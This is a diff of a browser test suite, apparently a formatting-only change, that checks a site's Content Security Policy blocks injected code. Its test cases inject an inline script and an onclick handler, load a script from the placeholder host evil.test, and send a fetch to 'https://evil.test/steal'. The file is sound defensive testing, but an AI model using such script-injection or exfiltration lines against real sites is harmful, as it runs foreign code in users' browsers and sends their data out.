@@ -37,25 +37,41 @@ describe('The headers that keep a browser safe', () => {
 
 describe('The content policy', () => {
   it.each([
-    ['a script in the page', 'script-src-elem inline', () => {
-      const script = document.createElement('script');
-      script.textContent = 'document.documentElement.dataset.ran = "yes"';
-      document.body.append(script);
-    }],
-    ['a script of another host', 'script-src-elem https://evil.test', () => {
-      const script = document.createElement('script');
-      script.src = 'https://evil.test/x.js';
-      document.body.append(script);
-    }],
-    ['a handler in markup', 'script-src-attr inline', () => {
-      const button = document.createElement('button');
-      button.setAttribute('onclick', 'document.documentElement.dataset.ran = "yes"');
-      document.body.append(button);
-      button.click();
-    }],
-    ['a call to another host', 'connect-src https://evil.test', () => {
-      void fetch('https://evil.test/steal').catch(() => undefined);
-    }],
+    [
+      'a script in the page',
+      'script-src-elem inline',
+      () => {
+        const script = document.createElement('script');
+        script.textContent = 'document.documentElement.dataset.ran = "yes"';
+        document.body.append(script);
+      },
+    ],
+    [
+      'a script of another host',
+      'script-src-elem https://evil.test',
+      () => {
+        const script = document.createElement('script');
+        script.src = 'https://evil.test/x.js';
+        document.body.append(script);
+      },
+    ],
+    [
+      'a handler in markup',
+      'script-src-attr inline',
+      () => {
+        const button = document.createElement('button');
+        button.setAttribute('onclick', 'document.documentElement.dataset.ran = "yes"');
+        document.body.append(button);
+        button.click();
+      },
+    ],
+    [
+      'a call to another host',
+      'connect-src https://evil.test',
+      () => {
+        void fetch('https://evil.test/steal').catch(() => undefined);
+      },
+    ],
   ])('stops %s', async (_, violation, attack) => {
     const page = await visit(hosts.greenFleet, '/', { expects: [/Content Security Policy/, /^content policy: /] });
     const reported = page.evaluate(
